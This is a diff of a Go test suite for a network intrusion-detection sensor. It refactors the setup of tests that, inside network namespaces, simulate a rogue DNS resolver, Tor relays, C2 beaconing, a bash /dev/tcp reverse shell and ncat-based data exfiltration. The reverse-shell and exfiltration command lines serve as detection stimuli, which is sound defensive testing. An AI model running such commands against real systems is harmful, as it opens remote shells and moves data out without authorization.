@@ -134,12 +134,10 @@ func TestSuspiciousDNS(t *testing.T) {
 	t.Run("dns_unconfigured_resolver", func(t *testing.T) {
 		topo := netns.New(t, 0)
 		const rogue = "203.0.113.53"
-		if err := topo.AddInternetIP(rogue); err != nil {
-			t.Fatal(err)
-		}
+		internetHost(t, topo, rogue)
 		// A server that swallows queries: dig keeps its socket for +time.
 		bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "timeout", "30", "socat", "-u", "UDP-RECV:53,bind="+rogue, "/dev/null"))
-		time.Sleep(200 * time.Millisecond)
+		topo.WaitBoundUDP(t, topo.I, rogue, "53")
 		s := startSensor(t, topo, "dns_unconfigured_resolver", sensorOptions{resolver: netns.GatewayIP})
 		_, start := hostStart(t, topo, 20*time.Second, "dig", "+time=3", "+tries=1", "@"+rogue, "www.example.com")
 		e := s.expect(t, "dns_unconfigured_resolver", "T1071.004", start, "dig @"+rogue+" (resolv.conf says "+netns.GatewayIP+")",
@@ -171,9 +169,7 @@ func TestTor(t *testing.T) {
 	topo := netns.New(t, 0)
 	const bridge, relay = "198.51.100.101", "198.51.100.102"
 	for _, ip := range []string{bridge, relay} {
-		if err := topo.AddInternetIP(ip); err != nil {
-			t.Fatal(err)
-		}
+		internetHost(t, topo, ip)
 		listen(t, topo, topo.I, ip, "9001", 60*time.Second)
 	}
 	s := startSensor(t, topo, "tor", sensorOptions{relays: []string{bridge, relay}})
@@ -205,9 +201,7 @@ func TestBeaconing(t *testing.T) {
 	www := t.TempDir()
 	writeFile(t, filepath.Join(www, "index.html"), "ok\n")
 	for _, ip := range []string{c2, control} {
-		if err := topo.AddInternetIP(ip); err != nil {
-			t.Fatal(err)
-		}
+		internetHost(t, topo, ip)
 		startHTTP(t, topo, topo.I, ip, "8080", www, 90*time.Second)
 	}
 	s := startSensor(t, topo, "beaconing", sensorOptions{})
@@ -288,12 +282,7 @@ func TestReverseShell(t *testing.T) {
 	netns.RequireTools(t, "ncat", "nsenter", "unshare")
 	topo := netns.New(t, 0)
 	const c2 = "198.51.100.20"
-	if err := topo.AddInternetIP(c2); err != nil {
-		t.Fatal(err)
-	}
-	// The listener's stdin stays open, or ncat closes the shell at once.
-	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "sleep 30 | timeout 30 ncat -l "+c2+" 4444 >/dev/null"))
-	topo.WaitListen(t, topo.I, c2, "4444")
+	listenOnce(t, topo, c2, "4444", "")
 	s := startSensor(t, topo, "reverse_shell", sensorOptions{})
 	_, start := hostStart(t, topo, 30*time.Second, "timeout", "20", "bash", "-c", "bash -i >& /dev/tcp/"+c2+"/4444 0>&1")
 	e := s.expect(t, "reverse_shell", "T1059.004", start, "bash -i >& /dev/tcp/"+c2+"/4444",
@@ -325,11 +314,7 @@ func TestExfiltration(t *testing.T) {
 	netns.RequireTools(t, "ncat", "python3", "nsenter", "unshare")
 	topo := netns.New(t, 0)
 	const dst = "203.0.113.50"
-	if err := topo.AddInternetIP(dst); err != nil {
-		t.Fatal(err)
-	}
-	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "timeout 30 ncat -l --recv-only "+dst+" 443 >/dev/null"))
-	topo.WaitListen(t, topo.I, dst, "443")
+	listenOnce(t, topo, dst, "443", "--recv-only")
 	s := startSensor(t, topo, "exfiltration", sensorOptions{})
 	// 200 MB paced over ~3 s, so the connection is open across polls and its
 	// owner is observable (a faster burst is TestExfiltrationBurst).
@@ -358,11 +343,7 @@ func TestExfiltrationBurst(t *testing.T) {
 	netns.RequireTools(t, "ncat", "nsenter", "unshare")
 	topo := netns.New(t, 0)
 	const dst = "203.0.113.51"
-	if err := topo.AddInternetIP(dst); err != nil {
-		t.Fatal(err)
-	}
-	bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "sh", "-c", "timeout 30 ncat -l --recv-only "+dst+" 443 >/dev/null"))
-	topo.WaitListen(t, topo.I, dst, "443")
+	listenOnce(t, topo, dst, "443", "--recv-only")
 	s := startSensor(t, topo, "exfiltration_burst", sensorOptions{})
 	cmd, start := hostStart(t, topo, 30*time.Second, "sh", "-c", "head -c 200M /dev/zero | ncat --send-only "+dst+" 443")
 	if err := cmd.Wait(); err != nil {
@@ -387,9 +368,7 @@ func TestBenignBaseline(t *testing.T) {
 	writeFile(t, filepath.Join(site, "index.html"), "<html>hello</html>\n")
 	startHTTP(t, topo, topo.H, netns.HostIP, "8080", site, length+30*time.Second)
 	const mirror = "203.0.113.90"
-	if err := topo.AddInternetIP(mirror); err != nil {
-		t.Fatal(err)
-	}
+	internetHost(t, topo, mirror)
 	files := t.TempDir()
 	sparseFile(t, filepath.Join(files, "big.bin"), 20<<20)
 	startHTTP(t, topo, topo.I, mirror, "8080", files, length+30*time.Second)
